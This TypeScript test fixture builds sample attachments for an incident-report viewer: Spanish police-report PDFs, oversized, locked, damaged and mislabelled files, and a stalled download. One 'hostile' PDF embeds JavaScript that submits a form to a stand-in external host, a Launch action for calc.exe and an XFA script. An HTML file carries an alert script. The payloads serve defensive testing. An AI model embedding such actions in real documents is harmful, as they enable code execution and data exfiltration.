/** A report and an invoice with papers of every kind and in every state, for the tests and pictures of their screens. */
import type { ServerResponse } from 'node:http';
import { crc32, deflateSync } from 'node:zlib';
import type { Attachment } from '../../shared/contract/attachments.ts';
import { financialDocument } from '../engine/financial-documents.ts';
import { incidentReport } from '../engine/incident-reports.ts';
import { openFileServer } from '../files/file-server.ts';
import { approve, recordOf, sendReport } from '../files/reports.ts';
import { settled } from '../files/settled.ts';
import type { Perito } from './perito.ts';
import { noise, samplePdf, scannedImages } from './sample-pdf.ts';

const pdf = 'application/pdf';

const actLines = (page: number) => [
  `Acta policial de tránsito, folio ${page}`,
  '',
  'El conductor declaró que transitaba por la avenida 27 de Febrero cuando',
  'el vehículo de atrás le impactó el bumper y la compuerta.',
  ...Array.from(
    { length: 30 },
    (_, line) => `Línea ${line + 1}: daños según inspección número ${page}.${line}.`,
  ),
  page === 9 ? 'Firma del oficial: REPARACIÓN pendiente de peritaje.' : 'Sin más que agregar.',
];

/** Twelve pages; the fourth is turned by its own word, the seventh lies. */
export const act = samplePdf({
  pages: Array.from({ length: 12 }, (_, index) => ({
    lines: actLines(index + 1),
    ...(index === 3 ? { rotate: 90 as const } : {}),
    ...(index === 6 ? { width: 792, height: 612 } : {}),
  })),
});

const longDocument = (pages: number) =>
  samplePdf({
    pages: Array.from({ length: pages }, (_, index) => ({
      lines: [`Folio ${index + 1} de ${pages}`, 'Historial de reparaciones y pólizas del vehículo.'],
    })),
  });

/** What a reader of PDFs must leave alone: scripts, programs, addresses, forms that fetch. */
const hostile = samplePdf({
  catalogue:
    '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://fuera.example/"\\)) >> ' +
    '/AA << /WC << /S /Launch /F (calc.exe) >> >> ' +
    '/AcroForm << /XFA (<xdp><script>alert\\(1\\)</script></xdp>) /Fields [] >>',
  pages: [{ lines: ['Pulse aqui: https://fuera.example/robar'], link: 'https://fuera.example/robar' }],
});

function png(width: number, height: number): Buffer {
  const chunk = (name: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(name), data]);
    const ends = Buffer.alloc(8);
    ends.writeUInt32BE(data.length, 0);
    ends.writeUInt32BE(crc32(body), 4);
    return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const rows = Buffer.alloc(height * (width * 3 + 1), 0xe8);
  for (let y = 0; y < height; y++) {
    rows[y * (width * 3 + 1)] = 0;
    if (y % 24 < 2) rows.fill(0x50, y * (width * 3 + 1) + 120, y * (width * 3 + 1) + width * 2);
  }
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Nearly half of a file, and then hardly more. */
const stalls = (response: ServerResponse) => {
  response.writeHead(200, { 'content-type': pdf, 'content-length': 2_000_000 });
  response.write(Buffer.alloc(900_000, 0x20));
  const more = setInterval(() => response.write(' '), 1000);
  response.on('close', () => clearInterval(more));
};

export const password = 'clave-de-prueba';

const papers = {
  act: { caption: 'Acta policial', filename: 'acta de tránsito.pdf', says: pdf, served: act },
  long: {
    caption: 'Historial del vehículo',
    filename: 'historial-300.pdf',
    says: pdf,
    served: longDocument(300),
  },
  heavy: {
    caption: 'Fotos impresas',
    filename: 'fotos.pdf',
    says: pdf,
    served: samplePdf({
      pages: Array.from({ length: 6 }, (_, index) => ({
        lines: [`Hoja ${index + 1}`],
        image: noise(3_000_000),
      })),
    }),
  },
  scanned: {
    caption: 'Licencia escaneada',
    filename: 'escaneo.pdf',
    says: pdf,
    served: samplePdf({ pages: Object.values(scannedImages).map((image) => ({ image })) }),
  },
  locked: {
    caption: 'Informe médico',
    filename: 'informe-protegido.pdf',
    says: pdf,
    served: samplePdf({ pages: [{ lines: ['Informe reservado de prueba'] }], password }),
  },
  damaged: {
    caption: 'Factura del remolque',
    filename: 'remolque.pdf',
    says: pdf,
    served: Buffer.from(`%PDF-1.5\n${'nada de esto es un documento\n'.repeat(80)}`),
  },
  hostile: { caption: null, filename: 'enlace raro.pdf', says: pdf, served: hostile },
  huge: { caption: 'Anexo', filename: 'diez-mil.pdf', says: pdf, served: longDocument(10_000) },
  picture: { caption: 'Matrícula', filename: 'matricula.pdf', says: pdf, served: png(900, 600) },
  page: {
    caption: 'Declaración',
    filename: 'declaracion.html',
    says: 'text/html',
    served: Buffer.from('<!doctype html><script>alert(1)</script><p>Declaración de prueba</p>'),
  },
  coming: { caption: 'Croquis', filename: 'croquis.pdf', says: pdf, served: stalls },
} as const satisfies Record<
  string,
  {
    caption: string | null;
    filename: string;
    says: string;
    served: Buffer | ((response: ServerResponse) => void);
  }
>;
type Name = keyof typeof papers | 'elsewhere' | 'nowhere';

/** Sends them; ids of the attachments by name, once each stands as it will. */
export async function fillDocuments(perito: Perito) {
  const named = Object.entries(papers);
  const files = await openFileServer();
  await approve(perito, files.url);
  const addresses = named.map(([name, { served, says }]) =>
    files.serve(name, Buffer.isBuffer(served) ? { type: says, bytes: served } : served),
  );
  const paper = (index: number, caption: string | null, filename: string, says: string, address: string) => ({
    sequenceIndex: index + 1,
    incidentReportFormAttachmentId: 900 + index,
    incidentDocumentTypeId: 1,
    incidentDocumentTypeName: caption,
    originalFilename: filename,
    hasPreview: false,
    contentType: says,
    filename: address.split('/').at(-1),
    previewFilename: '',
    baseUrl: '',
    fileFullPath: address,
    previewFullPath: '',
  });
  const attachmentsDocuments = [
    ...named.map(([, { caption, filename, says }], index) =>
      paper(index, caption, filename, says, addresses[index] ?? ''),
    ),
    paper(
      named.length,
      'Certificación',
      'certificacion.pdf',
      pdf,
      'https://archivos.desconocido.example/c.pdf',
    ),
    paper(named.length + 1, 'Carta', 'carta.pdf', pdf, ''),
  ];
  await perito.client.settings.update({ attachments: { maximumSeconds: 600 } });
  const incident = await sendReport(
    perito,
    incidentReport(8801, { attachmentsPictures: [], attachmentsDocuments }),
  );
  await perito.post(
    '/financialDocuments',
    financialDocument(8802, {
      attachments: [
        {
          attachmentId: 801,
          attachmentFilename: 'conduce firmado.pdf',
          contentType: pdf,
          documentFileSizeBytes: act.length,
          documentUrl: `${files.url}/act`,
        },
      ],
    }),
  );
  const document = await recordOf(perito.client, 'financialDocument', 8802);
  const asItWillStay = ({ state, content }: Attachment) =>
    state === 'stored'
      ? content?.shownAs != null && (content.shownAs !== 'image' || content.hasPreviews)
      : state !== 'queued';
  await settled(perito, document, 1, asItWillStay);
  const all = await settled(perito, incident, attachmentsDocuments.length, asItWillStay);
  const names: Name[] = [...(Object.keys(papers) as (keyof typeof papers)[]), 'elsewhere', 'nowhere'];
  const ids = new Map(names.map((name, index) => [name, all[index]?.id ?? 0]));
  return {
    incident,
    document,
    at: (name: Name) => `/incidents/${incident}/papers/${ids.get(name)}`,
    id: (name: Name) => ids.get(name) ?? 0,
    files,
  };
}
